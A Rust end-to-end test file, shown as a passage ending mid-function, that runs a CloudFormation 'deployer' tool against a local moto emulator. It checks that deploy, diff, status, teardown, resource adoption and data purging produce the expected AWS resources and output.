//! End to end against a moto server this test starts: the real `deployer` binary deploys `local`
//! with fixture artifacts, and every resource moto supports is checked through its own service API
//! (a `CREATE_COMPLETE` proves nothing on moto, which skips types it does not know).

// Test code: a failed unwrap is a failed test, with its message.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use aws_sdk_cloudformation::error::ProvideErrorMetadata as _;
use engine::artifacts::zip_bootstrap;
use engine::aws::{Aws, AwsOptions};
use testkit::Moto;

fn workspace() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// Tiny real artifacts: zips with an executable `bootstrap` script, and a scraper script.
fn fixtures(dir: &Path) -> BTreeMap<&'static str, usize> {
    std::fs::create_dir_all(dir).unwrap();
    let mut sizes = BTreeMap::new();
    // Every Lambda's code (the scraper's binary is not a zip).
    for name in stacks::pipeline::ArtifactParameter::ALL
        .into_iter()
        .filter(|p| *p != stacks::pipeline::ArtifactParameter::Scraper)
        .map(|p| p.crate_name())
    {
        let zip = zip_bootstrap(format!("#!/bin/sh\necho {name}\n").as_bytes()).unwrap();
        sizes.insert(name, zip.len());
        std::fs::write(dir.join(format!("{name}.zip")), zip).unwrap();
    }
    std::fs::write(dir.join("scraper"), b"#!/bin/sh\necho scraper\n").unwrap();
    sizes
}

/// `environments/local.yaml` pointed at this moto, optionally with another account or memory size.
fn environment(dir: &Path, endpoint: &str, account: &str, memory_mb: u32) {
    std::fs::create_dir_all(dir).unwrap();
    let text = std::fs::read_to_string(workspace().join("environments/local.yaml"))
        .unwrap()
        .replace("http://127.0.0.1:5000", endpoint)
        .replace("\"123456789012\"", &format!("\"{account}\""))
        .replace(
            "\nlogs:",
            &format!("\ntransform:\n  memory_mb: {memory_mb}\n\nlogs:"),
        );
    std::fs::write(dir.join("local.yaml"), text).unwrap();
}

fn deployer(args: &[&str], environments: &Path) -> Output {
    let output = Command::new(env!("CARGO_BIN_EXE_deployer"))
        .args(args)
        .arg("--environments")
        .arg(environments)
        .current_dir(workspace())
        // The environment file names the endpoint; nothing from the developer's shell may redirect it.
        .env_remove("AWS_ENDPOINT_URL")
        .env_remove("AWS_PROFILE")
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .output()
        .expect("run deployer");
    eprintln!(
        "$ deployer {}\n{}{}exit: {:?}",
        args.join(" "),
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr),
        output.status.code()
    );
    output
}

/// Runs the deployer on a pseudo-terminal (util-linux `script`), typing `input`.
fn on_terminal(args: &[&str], environments: &Path, input: &str) -> Output {
    use std::io::Write as _;
    let mut command = vec![env!("CARGO_BIN_EXE_deployer").to_owned()];
    command.extend(args.iter().map(|a| (*a).to_owned()));
    command.push("--environments".into());
    command.push(environments.display().to_string());
    let line = command
        .iter()
        .map(|word| format!("'{}'", word.replace('\'', "'\\''")))
        .collect::<Vec<_>>()
        .join(" ");
    let mut child = Command::new("script")
        .args(["--quiet", "--return", "--command", &line, "/dev/null"])
        .current_dir(workspace())
        .env_remove("AWS_ENDPOINT_URL")
        .env_remove("AWS_PROFILE")
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run script (util-linux)");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    let output = child.wait_with_output().unwrap();
    eprintln!(
        "$ (terminal) deployer {}\n{}{}exit: {:?}",
        args.join(" "),
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr),
        output.status.code()
    );
    output
}

/// Runs the deployer on a pseudo-terminal (util-linux `script`) until it prints `prompt`, then
/// closes the terminal (kills `script`; the deployer gets SIGHUP): an operation interrupted at
/// that point. Returns what it printed.
fn closed_at_prompt(args: &[&str], environments: &Path, prompt: &str) -> String {
    use std::io::Read as _;
    use std::sync::{Arc, Mutex};
    let mut command = vec![env!("CARGO_BIN_EXE_deployer").to_owned()];
    command.extend(args.iter().map(|a| (*a).to_owned()));
    command.push("--environments".into());
    command.push(environments.display().to_string());
    let line = command
        .iter()
        .map(|word| format!("'{}'", word.replace('\'', "'\\''")))
        .collect::<Vec<_>>()
        .join(" ");
    let mut child = Command::new("script")
        .args(["--quiet", "--return", "--command", &line, "/dev/null"])
        .current_dir(workspace())
        .env_remove("AWS_ENDPOINT_URL")
        .env_remove("AWS_PROFILE")
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("run script (util-linux)");
    let printed = Arc::new(Mutex::new(Vec::new()));
    let mut stdout = child.stdout.take().unwrap();
    let reader = {
        let printed = Arc::clone(&printed);
        std::thread::spawn(move || {
            let mut buffer = [0u8; 4096];
            while let Ok(n @ 1..) = stdout.read(&mut buffer) {
                printed.lock().unwrap().extend_from_slice(&buffer[..n]);
            }
        })
    };
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(300);
    let text = || String::from_utf8_lossy(&printed.lock().unwrap()).into_owned();
    while !text().contains(prompt) {
        assert!(
            std::time::Instant::now() < deadline && child.try_wait().unwrap().is_none(),
            "no prompt `{prompt}`:\n{}",
            text()
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    drop(child.stdin.take());
    let _ = reader.join();
    let printed = text();
    eprintln!(
        "$ (terminal, closed at the prompt) deployer {}\n{printed}",
        args.join(" ")
    );
    printed
}

/// Every stdout line as JSON, each checked to carry `command`'s schema version.
fn json_lines(output: &Output, command: &str) -> Vec<serde_json::Value> {
    String::from_utf8_lossy(&output.stdout)
        .lines()
        .map(|line| {
            let object: serde_json::Value =
                serde_json::from_str(line).unwrap_or_else(|e| panic!("{line}: {e}"));
            assert_eq!(
                object["schema"],
                format!("mystocktracker.{command}/1"),
                "{line}"
            );
            object
        })
        .collect()
}

fn text(output: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let escaped = (bytes[i] == b'%' && i + 2 < bytes.len())
            .then(|| u8::from_str_radix(&s[i + 1..i + 3], 16).ok())
            .flatten();
        match escaped {
            Some(b) => {
                out.push(b);
                i += 3;
            }
            None => {
                out.push(bytes[i]);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Logical id → (type, physical id) of a stack, as CloudFormation reports them.
async fn resources(
    cfn: &aws_sdk_cloudformation::Client,
    stack: &str,
) -> BTreeMap<String, (String, String)> {
    let page = cfn
        .list_stack_resources()
        .stack_name(stack)
        .send()
        .await
        .unwrap();
    page.stack_resource_summaries()
        .iter()
        .map(|r| {
            (
                r.logical_resource_id().unwrap_or_default().to_owned(),
                (
                    r.resource_type().unwrap_or_default().to_owned(),
                    r.physical_resource_id().unwrap_or_default().to_owned(),
                ),
            )
        })
        .collect()
}

struct Clients {
    cfn: aws_sdk_cloudformation::Client,
    s3: aws_sdk_s3::Client,
    kinesis: aws_sdk_kinesis::Client,
    lambda: aws_connect::rest::RestClient,
    sns: aws_sdk_sns::Client,
    iam: aws_connect::query::QueryClient,
    kms: aws_connect::json::JsonClient,
    ssm: aws_connect::json::JsonClient,
}

async fn clients(environments: &Path) -> Clients {
    let env = environment::load(&environments.join("local.yaml")).unwrap();
    let aws = Aws::load(&env, &AwsOptions::default()).await;
    let region = aws.region(env.canary_region());
    let config = aws.sdk_config();
    Clients {
        cfn: region.cloudformation,
        s3: region.s3,
        ssm: region.ssm,
        kms: region.kms,
        kinesis: aws_sdk_kinesis::Client::new(config),
        lambda: aws_connect::rest::RestClient::new(
            config,
            env.canary_region().as_str(),
            aws_connect::rest::LAMBDA,
        ),
        sns: aws_sdk_sns::Client::new(config),
        iam: aws_connect::query::QueryClient::new(
            config,
            env.canary_region().as_str(),
            aws_connect::query::IAM,
        ),
    }
}

/// Lambda's `GetFunction` of `name`: the function's configuration and code location.
async fn get_function(c: &Clients, name: &str) -> aws_connect::DirectResult<serde_json::Value> {
    let path = format!("/2015-03-31/functions/{}", aws_connect::rest::segment(name));
    c.lambda
        .call("GetFunction", aws_connect::rest::Get::path(path))
        .await
}

/// local.yaml's `dr:`: the replica stack was deployed to the DR region first, and each data
/// bucket's replication rule reads back from S3 naming the replica bucket, the replica key (found
/// by its alias in the DR region) and the replication role.
async fn verify_replication(environments: &Path) {
    let env = environment::load(&environments.join("local.yaml")).unwrap();
    let dr = env.dr.clone().expect("local.yaml has a dr: section");
    let aws = Aws::load(&env, &AwsOptions::default()).await;
    let home = aws.region(env.canary_region());
    let dr_clients = aws.region(&dr.region);
    let replica = resources(&dr_clients.cloudformation, "mst-local-replica").await;
    let key = engine::dr::replica_key_arn(&dr_clients, &env)
        .await
        .unwrap()
        .expect("the replica key's alias exists in the DR region");
    assert!(
        key.starts_with(&format!("arn:aws:kms:{}:123456789012:key/", dr.region)),
        "{key}"
    );
    let pipeline = resources(&home.cloudformation, "mst-local-pipeline").await;
    let role = &pipeline["ReplicationRole"].1;
    for purpose in ["raw", "curated"] {
        let replica_bucket = format!("mst-local-{purpose}-dr-123456789012-us-east-1");
        assert!(
            replica
                .values()
                .any(|(kind, name)| kind == "AWS::S3::Bucket" && *name == replica_bucket),
            "{replica_bucket} not in {replica:?}"
        );
        dr_clients
            .s3
            .head_bucket()
            .bucket(&replica_bucket)
            .send()
            .await
            .unwrap();
        let source = format!("mst-local-{purpose}-123456789012-us-east-1");
        let read = home
            .s3
            .get_bucket_replication()
            .bucket(&source)
            .send()
            .await
            .unwrap();
        let config = read.replication_configuration().unwrap();
        assert_eq!(
            config.role(),
            format!("arn:aws:iam::123456789012:role/{role}")
        );
        let rule = &config.rules()[0];
        assert_eq!(rule.id(), Some("ReplicateToDr"));
        assert_eq!(rule.status().as_str(), "Enabled");
        let destination = rule.destination().unwrap();
        assert_eq!(
            destination.bucket(),
            format!("arn:aws:s3:::{replica_bucket}")
        );
        assert_eq!(
            destination
                .encryption_configuration()
                .and_then(|e| e.replica_kms_key_id()),
            Some(key.as_str())
        );
    }
}

/// Checks every moto-supported resource of the pipeline through its service.
async fn verify_pipeline(c: &Clients, sizes: &BTreeMap<&str, usize>, memory_mb: i32) {
    let pipeline = resources(&c.cfn, "mst-local-pipeline").await;
    let physical = |id: &str| {
        pipeline
            .get(id)
            .unwrap_or_else(|| panic!("{id} not in the stack"))
            .1
            .clone()
    };

    let stream = c
        .kinesis
        .describe_stream_summary()
        .stream_name(physical("QuoteStream"))
        .send()
        .await
        .unwrap();
    let stream = stream.stream_description_summary().unwrap();
    assert_eq!(stream.retention_period_hours(), 24);
    let stream_arn = stream.stream_arn().to_owned();

    for bucket in ["RawBucket", "CuratedBucket", "AccessLogsBucket"] {
        c.s3.head_bucket()
            .bucket(physical(bucket))
            .send()
            .await
            .unwrap_or_else(|e| panic!("{bucket}: {e:?}"));
    }

    for (logical, artifact, role) in [
        ("Transform", "transform", "TransformRole"),
        ("ToParquet", "to-parquet", "ToParquetRole"),
        ("Notify", "notify", "NotifyRole"),
    ] {
        let function = get_function(c, &physical(logical)).await.unwrap();
        let config = &function["Configuration"];
        assert_eq!(
            config["CodeSize"].as_u64(),
            Some(sizes[artifact] as u64),
            "{logical} code is the uploaded zip"
        );
        assert_eq!(config["Runtime"], "provided.al2023");
        let role_arn = c
            .iam
            .call("GetRole", &[("RoleName", &physical(role))])
            .await
            .unwrap()
            .text_at(&["GetRoleResult", "Role", "Arn"])
            .unwrap();
        assert_eq!(
            config["Role"],
            role_arn.as_str(),
            "{logical} runs as {role}"
        );
        if logical == "Transform" {
            assert_eq!(config["MemorySize"].as_i64(), Some(i64::from(memory_mb)));
        }
    }

    let mappings = c
        .lambda
        .call(
            "ListEventSourceMappings",
            aws_connect::rest::Get::path("/2015-03-31/event-source-mappings/")
                .query("FunctionName", &physical("Transform")),
        )
        .await
        .unwrap();
    let mappings = mappings["EventSourceMappings"].as_array().unwrap();
    assert_eq!(mappings.len(), 1, "{mappings:?}");
    assert_eq!(mappings[0]["EventSourceArn"], stream_arn.as_str());
    assert_eq!(mappings[0]["BatchSize"], 500);

    let topic = c
        .sns
        .get_topic_attributes()
        .topic_arn(physical("AlertTopic"))
        .send()
        .await
        .unwrap();
    assert!(
        topic
            .attributes()
            .is_some_and(|a| a.contains_key("TopicArn"))
    );

    for (role, action) in [
        ("TransformRole", "kinesis:GetRecords"),
        ("ToParquetRole", "s3:GetObject"),
        ("NotifyRole", "sns:Publish"),
        ("ScraperRole", "kinesis:PutRecords"),
        ("FirehoseRole", "kinesis:GetShardIterator"),
        ("CrawlerRole", "glue:GetTable"),
    ] {
        let name = physical(role);
        let role_out = c.iam.call("GetRole", &[("RoleName", &name)]).await.unwrap();
        let trust = percent_decode(
            &role_out
                .text_at(&["GetRoleResult", "Role", "AssumeRolePolicyDocument"])
                .unwrap_or_default(),
        );
        assert!(trust.contains("sts:AssumeRole"), "{role} trust: {trust}");
        let policies = c
            .iam
            .call("ListRolePolicies", &[("RoleName", &name)])
            .await
            .unwrap();
        let names = policies.texts(&["ListRolePoliciesResult", "PolicyNames", "member"]);
        assert_eq!(names.len(), 1, "{role} has its one policy: {names:?}");
        let document = c
            .iam
            .call(
                "GetRolePolicy",
                &[("RoleName", &name), ("PolicyName", &names[0])],
            )
            .await
            .unwrap();
        let document = percent_decode(
            &document
                .text_at(&["GetRolePolicyResult", "PolicyDocument"])
                .unwrap_or_default(),
        );
        assert!(document.contains(action), "{role} may {action}: {document}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn up_diff_up_down_against_moto() {
    let moto = Moto::start();
    moto.reset();
    let work = tempdir("scenario");
    let artifacts = work.join("artifacts");
    let sizes = fixtures(&artifacts);
    let envs = work.join("environments");
    environment(&envs, moto.endpoint(), "123456789012", 256);
    let art = artifacts.to_str().unwrap();

    // Without a terminal, a broadening change needs --yes: refused, nothing of the pipeline made.
    let refused = deployer(&["up", "--env", "local", "--artifacts", art], &envs);
    assert_eq!(refused.status.code(), Some(1));
    assert!(
        text(&refused).contains("needs approval (IAM access broadens), but there is no terminal"),
        "{}",
        text(&refused)
    );

    // On a terminal, "n" at the prompt is a cancelled operation (exit 4), not a failure. (The DR
    // region's replica stack comes first, its new key and bucket policies asked about too: "y".)
    let declined = on_terminal(
        &["up", "--env", "local", "--artifacts", art],
        &envs,
        "y\nn\n",
    );
    assert_eq!(declined.status.code(), Some(4), "{}", text(&declined));
    assert!(
        text(&declined).contains("Deploy these changes to mst-local-replica in us-west-2? [y/N]")
            && text(&declined)
                .contains("Deploy these changes to mst-local-pipeline in us-east-1? [y/N]")
            && text(&declined).contains("cancelled: you declined a change")
            && !text(&declined).contains("FAILED"),
        "{}",
        text(&declined)
    );

    let up = deployer(
        &["up", "--env", "local", "--artifacts", art, "--yes"],
        &envs,
    );
    assert_eq!(up.status.code(), Some(0), "{}", text(&up));
    assert!(text(&up).contains("us-east-1: deployed"));
    // What to do next, computed from what was deployed: moto's CloudFormation skips the secret and
    // the e-mail subscriptions, and the scraper's group is named.
    let next = text(&up);
    let next = &next[next.find("next steps in us-east-1:\n").expect("next steps")..];
    assert!(
        next.contains("  - InfluxDB token: the stack reports no secret")
            && next.contains("  - alert e-mails: no subscription was made (the emulator's CloudFormation skips SNS subscriptions)")
            && next.contains("  - scraper: 1 shard(s), each an Auto Scaling group of one (mst-local-pipeline-ScraperShard0-")
            && next.contains("  - every output: deployer status --env local --region us-east-1\n"),
        "{next}"
    );

    let c = clients(&envs).await;
    verify_pipeline(&c, &sizes, 256).await;
    verify_replication(&envs).await;
    // The stacks carry the hashes of what was deployed (moto round-trips stack tags set through a
    // change set): the next `up` compares them without reading the template.
    let env = environment::load(&envs.join("local.yaml")).unwrap();
    let synthesis = synth::synthesize(&env, None).unwrap();
    for stack in &synthesis.regions[0].stacks {
        let described = c
            .cfn
            .describe_stacks()
            .stack_name(&stack.name)
            .send()
            .await
            .unwrap();
        let tags: BTreeMap<&str, &str> = described.stacks()[0]
            .tags()
            .iter()
            .map(|t| (t.key().unwrap(), t.value().unwrap()))
            .collect();
        assert_eq!(
            tags.get("mst:template-sha256").copied(),
            Some(engine::artifacts::sha256_hex(stack.compact.as_bytes()).as_str()),
            "{}: {tags:?}",
            stack.name
        );
        assert_eq!(tags.get("mst:parameters-sha256").map(|h| h.len()), Some(64));
        assert_eq!(tags.get("owner").copied(), Some("data-platform"));
    }
    // The scraper's AMI was resolved by the deployer (`scraper.ami: latest`) and passed as the
    // plain image id the emulator's public parameter names in the region.
    let latest = c
        .ssm
        .call(
            "GetParameter",
            serde_json::json!({ "Name": environment::ScraperImage::LATEST_PARAMETER }),
        )
        .await
        .unwrap();
    let latest = latest["Parameter"]["Value"].as_str().unwrap();
    assert!(latest.starts_with("ami-"), "{latest}");
    assert_eq!(
        pipeline_stack(&c)
            .await
            .0
            .get("ScraperImageId")
            .map(String::as_str),
        Some(latest)
    );
    // The artifacts bucket holds the four artifacts under content-hash keys.
    let artifacts_bucket = "mst-local-artifacts-123456789012-us-east-1";
    let listed =
        c.s3.list_objects_v2()
            .bucket(artifacts_bucket)
            .send()
            .await
            .unwrap();
    let keys: Vec<&str> = listed.contents().iter().filter_map(|o| o.key()).collect();
    for prefix in ["transform/", "to-parquet/", "notify/", "scraper/"] {
        assert!(
            keys.iter().any(|k| k.starts_with(prefix)),
            "{prefix} in {keys:?}"
        );
    }

    // Unchanged: a no-op.
    let again = deployer(
        &["up", "--env", "local", "--artifacts", art, "--yes"],
        &envs,
    );
    assert_eq!(again.status.code(), Some(0));
    assert!(
        text(&again).contains("us-east-1: unchanged"),
        "{}",
        text(&again)
    );
    assert!(!text(&again).contains("executing"));
    // --output json: one JSON object per line, ending with the region's result.
    let json = deployer(
        &[
            "up",
            "--env",
            "local",
            "--artifacts",
            art,
            "--yes",
            "--output",
            "json",
        ],
        &envs,
    );
    assert_eq!(json.status.code(), Some(0));
    let objects = json_lines(&json, "up");
    let steps = objects
        .iter()
        .find(|o| o["type"] == "next_steps")
        .expect("next steps in JSON");
    assert_eq!(steps["subscriptions"][0]["state"], "not_subscribed");
    assert_eq!(steps["subscriptions_made"], false);
    assert_eq!(steps["influxdb_token"]["state"], "not_created");
    // One shard: one Auto Scaling group, listed by its physical name.
    let groups = steps["scraper_groups"].as_array().unwrap();
    assert_eq!(groups.len(), 1, "{steps}");
    assert!(!groups[0].as_str().unwrap().is_empty());
    assert!(
        objects.iter().any(|o| o["type"] == "result"
            && o["region"] == "us-east-1"
            && o["result"] == "unchanged"),
        "{objects:?}"
    );
    let none = deployer(&["diff", "--env", "local", "--artifacts", art], &envs);
    assert_eq!(none.status.code(), Some(0), "{}", text(&none));
    let none = deployer(
        &[
            "diff",
            "--env",
            "local",
            "--artifacts",
            art,
            "--output",
            "json",
        ],
        &envs,
    );
    assert_eq!(none.status.code(), Some(0), "{}", text(&none));
    let objects = json_lines(&none, "diff");
    // The DR region's replica stack first, as `up` deploys it, then the region's two stacks.
    assert_eq!(objects.len(), 3, "{objects:?}");
    assert_eq!(
        (&objects[0]["region"], &objects[0]["stack"]),
        (
            &serde_json::json!("us-west-2"),
            &serde_json::json!("mst-local-replica")
        )
    );
    assert!(objects.iter().all(|o| o["type"] == "unchanged"));

    // status: outputs moto does not report are explained, not silently absent.
    let status = deployer(&["status", "--env", "local", "--output", "json"], &envs);
    assert_eq!(status.status.code(), Some(0), "{}", text(&status));
    let stacks = json_lines(&status, "status");
    assert_eq!(stacks.len(), 2, "{stacks:?}");
    let pipeline_state = stacks
        .iter()
        .find(|o| o["stack"] == "mst-local-pipeline")
        .unwrap();
    assert_eq!(pipeline_state["type"], "stack");
    assert_eq!(pipeline_state["canary"], true);
    // The one shard's group, its instance and health as the emulator's Auto Scaling reports them.
    let shard = &pipeline_state["shards"][0];
    assert_eq!(shard["shard"], 0, "{pipeline_state}");
    assert!(
        shard["group"]
            .as_str()
            .unwrap()
            .starts_with("mst-local-pipeline-ScraperShard0-"),
        "{shard}"
    );
    let instances = shard["instances"]
        .as_array()
        .unwrap_or_else(|| panic!("{shard}"));
    assert_eq!(instances.len(), 1, "{shard}");
    assert!(
        instances[0]["id"].as_str().unwrap().starts_with("i-"),
        "{shard}"
    );
    assert_eq!(instances[0]["lifecycle_state"], "InService", "{shard}");
    assert_eq!(instances[0]["health_status"], "Healthy", "{shard}");
    assert_eq!(shard["instances_note"], serde_json::Value::Null, "{shard}");
    // moto has no CloudWatch metrics API: the heartbeat is said to be unread, the rest is shown.
    assert_eq!(shard["heartbeat"], "unread", "{shard}");
    assert!(
        shard["heartbeat_note"]
            .as_str()
            .unwrap()
            .contains("GetMetricStatistics"),
        "{shard}"
    );
    let status_text = deployer(&["status", "--env", "local"], &envs);
    assert_eq!(status_text.status.code(), Some(0), "{}", text(&status_text));
    let line = format!(
        "; instance {} InService Healthy; last heartbeat not read (GetMetricStatistics",
        instances[0]["id"].as_str().unwrap()
    );
    assert!(
        text(&status_text).contains(&line),
        "{line}\n{}",
        text(&status_text)
    );
    if pipeline_state["outputs"].as_object().unwrap().is_empty() {
        assert!(
            pipeline_state["outputs_note"]
                .as_str()
                .unwrap()
                .contains("emulator's CloudFormation reports no outputs"),
            "{pipeline_state}"
        );
    }

    // A changed environment shows in diff (exit 2), and up applies it. Another AMI than the one
    // `latest` resolved to shows as its parameter, both ids and the scraper's replacement.
    environment(&envs, moto.endpoint(), "123456789012", 512);
    let local = envs.join("local.yaml");
    let pinned = "ami-0fedcba9876543210";
    let text_of_env = std::fs::read_to_string(&local).unwrap().replacen(
        "scraper:\n",
        &format!("scraper:\n  ami: {pinned}\n"),
        1,
    );
    std::fs::write(&local, text_of_env).unwrap();
    let diff = deployer(&["diff", "--env", "local", "--artifacts", art], &envs);
    assert_eq!(diff.status.code(), Some(2), "{}", text(&diff));
    assert!(
        text(&diff).contains("~ Modify Transform (AWS::Lambda::Function)")
            && text(&diff).contains(&format!(
                "  ScraperImageId {latest} → {pinned}: replaces the scraper instances, one shard at a time\n"
            )),
        "{}",
        text(&diff)
    );
    let update = deployer(
        &["up", "--env", "local", "--artifacts", art, "--yes"],
        &envs,
    );
    assert_eq!(update.status.code(), Some(0), "{}", text(&update));
    verify_pipeline(&c, &sizes, 512).await;
    assert_eq!(
        pipeline_stack(&c)
            .await
            .0
            .get("ScraperImageId")
            .map(String::as_str),
        Some(pinned)
    );

    let status = deployer(&["status", "--env", "local"], &envs);
    assert_eq!(status.status.code(), Some(0));
    assert!(
        text(&status).contains("mst-local-pipeline: UPDATE_COMPLETE"),
        "{}",
        text(&status)
    );

    // down removes the stacks and keeps the retained buckets, the key and what they hold.
    let pipeline = resources(&c.cfn, "mst-local-pipeline").await;
    let data = [
        (
            pipeline["RawBucket"].1.clone(),
            "raw/AAPL/2026/12/06/before-down.json",
        ),
        (
            pipeline["CuratedBucket"].1.clone(),
            "quotes/symbol=AAPL/dt=2026-12-06/before-down.parquet",
        ),
    ];
    for (bucket, key) in &data {
        c.s3.put_object()
            .bucket(bucket)
            .key(*key)
            .body(format!("{bucket}/{key}").into_bytes().into())
            .send()
            .await
            .unwrap();
    }
    let down = deployer(
        &["down", "--env", "local", "--yes", "--output", "json"],
        &envs,
    );
    assert_eq!(down.status.code(), Some(0), "{}", text(&down));
    let lines = json_lines(&down, "down");
    assert!(
        lines
            .iter()
            .any(|o| o["type"] == "result" && o["text"] == "us-east-1 mst-local-pipeline: deleted"),
        "{lines:?}"
    );
    assert!(
        lines.iter().any(|o| o["text"]
            .as_str()
            .is_some_and(|t| t.contains("the next `deployer up --env local` adopts them"))),
        "{lines:?}"
    );
    assert_no_stack_left(&c).await;
    for bucket in ["RawBucket", "CuratedBucket", "AccessLogsBucket"] {
        c.s3.head_bucket()
            .bucket(&pipeline[bucket].1)
            .send()
            .await
            .unwrap_or_else(|e| panic!("{bucket} retained: {e:?}"));
    }
    c.s3.head_bucket()
        .bucket(artifacts_bucket)
        .send()
        .await
        .expect("artifacts bucket retained");
    let deleted = get_function(&c, &pipeline["Transform"].1)
        .await
        .unwrap_err();
    assert_eq!(
        deleted.code(),
        Some("ResourceNotFoundException"),
        "functions are deleted: {deleted:?}"
    );

    // up again adopts what down kept (a CloudFormation import, then the update): the same buckets
    // and key, with the objects written before down, under a working pipeline.
    let again = deployer(
        &["up", "--env", "local", "--artifacts", art, "--yes"],
        &envs,
    );
    assert_eq!(again.status.code(), Some(0), "{}", text(&again));
    let again = text(&again);
    assert!(
        again.contains("adopting 1 resource(s) kept by an earlier `down` into mst-local-artifacts")
            && again.contains(
                "adopting 4 resource(s) kept by an earlier `down` into mst-local-pipeline"
            )
            && again.contains(&format!(
                "DataKey (AWS::KMS::Key {})",
                pipeline["DataKey"].1
            ))
            && again.contains("~ Import RawBucket (AWS::S3::Bucket)")
            && again.contains("us-east-1: deployed"),
        "{again}"
    );
    let adopted = resources(&c.cfn, "mst-local-pipeline").await;
    for id in ["RawBucket", "CuratedBucket", "AccessLogsBucket", "DataKey"] {
        assert_eq!(adopted[id], pipeline[id], "{id} adopted");
    }
    assert_eq!(
        resources(&c.cfn, "mst-local-artifacts").await["ArtifactsBucket"].1,
        artifacts_bucket
    );
    for (bucket, key) in &data {
        let object =
            c.s3.get_object()
                .bucket(bucket)
                .key(*key)
                .send()
                .await
                .unwrap();
        let body = object.body.collect().await.unwrap().into_bytes();
        assert_eq!(body.as_ref(), format!("{bucket}/{key}").as_bytes());
    }
    let status = deployer(&["status", "--env", "local"], &envs);
    assert!(
        text(&status).contains("mst-local-pipeline: UPDATE_COMPLETE"),
        "{}",
        text(&status)
    );
    verify_pipeline(&c, &sizes, 512).await;
    // Unchanged afterwards: the import's own hash tags were replaced by the update's.
    let unchanged = deployer(
        &["up", "--env", "local", "--artifacts", art, "--yes"],
        &envs,
    );
    assert!(
        text(&unchanged).contains("us-east-1: unchanged"),
        "{}",
        text(&unchanged)
    );
    let down = deployer(&["down", "--env", "local", "--yes"], &envs);
    assert_eq!(down.status.code(), Some(0), "{}", text(&down));

    // --purge-data, even after the stacks are gone, empties and deletes the retained buckets.
    let purge = deployer(&["down", "--env", "local", "--purge-data", "--yes"], &envs);
    assert_eq!(purge.status.code(), Some(0), "{}", text(&purge));
    assert!(
        text(&purge).contains(&format!(
            "scheduled deletion of KMS key {} in 7 days",
            pipeline["DataKey"].1
        )),
        "{}",
        text(&purge)
    );
    assert_nothing_left(&c).await;
    let _ = std::fs::remove_dir_all(&work);
}

/// No stack but deleted ones.
async fn assert_no_stack_left(c: &Clients) {
    let stacks = c.cfn.describe_stacks().send().await.unwrap();
    assert!(
        stacks
            .stacks()
            .iter()
            .all(|s| s.stack_status().map(|x| x.as_str()) == Some("DELETE_COMPLETE")),
        "{stacks:?}"
    );
}

/// Nothing of the environment remains: no stack, no bucket, every KMS key pending deletion.
async fn assert_nothing_left(c: &Clients) {
    assert_no_stack_left(c).await;
    let buckets = c.s3.list_buckets().send().await.unwrap();
    assert_eq!(buckets.buckets(), [], "no bucket left");
    let keys = c.kms.call("ListKeys", serde_json::json!({})).await.unwrap();
    for key in keys["Keys"].as_array().unwrap() {
        let described = c
            .kms
            .call("DescribeKey", serde_json::json!({ "KeyId": key["KeyId"] }))
            .await
            .unwrap();
        assert_eq!(
            described["KeyMetadata"]["KeyState"], "PendingDeletion",
            "{key}"
        );
    }
}

/// `down --purge-data` after an `up` interrupted half-way: the artifacts stack adopted and
/// updated, the pipeline stack left `REVIEW_IN_PROGRESS` holding the import of what the first
/// `down` kept, which no stack lists. Nothing of the environment may remain.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn purge_after_an_up_interrupted_half_way_leaves_nothing() {
    let moto = Moto::start();
    let work = tempdir("interrupted");
    let artifacts = work.join("artifacts");
    fixtures(&artifacts);
    let envs = work.join("environments");
    environment(&envs, moto.endpoint(), "123456789012", 256);
    let art = artifacts.to_str().unwrap();
    let up = deployer(
        &["up", "--env", "local", "--artifacts", art, "--yes"],
        &envs,
    );
    assert_eq!(up.status.code(), Some(0), "{}", text(&up));
    let c = clients(&envs).await;
    let raw = resources(&c.cfn, "mst-local-pipeline").await["RawBucket"]
        .1
        .clone();
    c.s3.put_object()
        .bucket(&raw)
        .key("raw/kept.json")
        .body(b"{}".to_vec().into())
        .send()
        .await
        .unwrap();
    let down = deployer(&["down", "--env", "local", "--yes"], &envs);
    assert_eq!(down.status.code(), Some(0), "{}", text(&down));

    let printed = closed_at_prompt(
        &["up", "--env", "local", "--artifacts", art],
        &envs,
        "Deploy these changes to mst-local-pipeline in us-east-1? [y/N]",
    );
    assert!(
        printed.contains("~ Import RawBucket (AWS::S3::Bucket)"),
        "{printed}"
    );
    let status = deployer(&["status", "--env", "local"], &envs);
    assert!(
        text(&status).contains("mst-local-pipeline: REVIEW_IN_PROGRESS"),
        "{}",
        text(&status)
    );

    let purge = deployer(&["down", "--env", "local", "--purge-data", "--yes"], &envs);
    assert_eq!(purge.status.code(), Some(0), "{}", text(&purge));
    assert!(
        text(&purge).contains(&format!("deleted bucket {raw} (1 object version(s))")),
        "{}",
        text(&purge)
    );
    assert_nothing_left(&c).await;
    let _ = std::fs::remove_dir_all(&work);
}

/// Each artifact's key under `dir`'s fixtures, its SHA-256 checksum and the pipeline's version
/// parameter.
fn local_artifacts(dir: &Path) -> Vec<(String, String, &'static str)> {
    engine::artifacts::from_dir(dir)
        .unwrap()
        .into_iter()
        .map(|a| {
            (
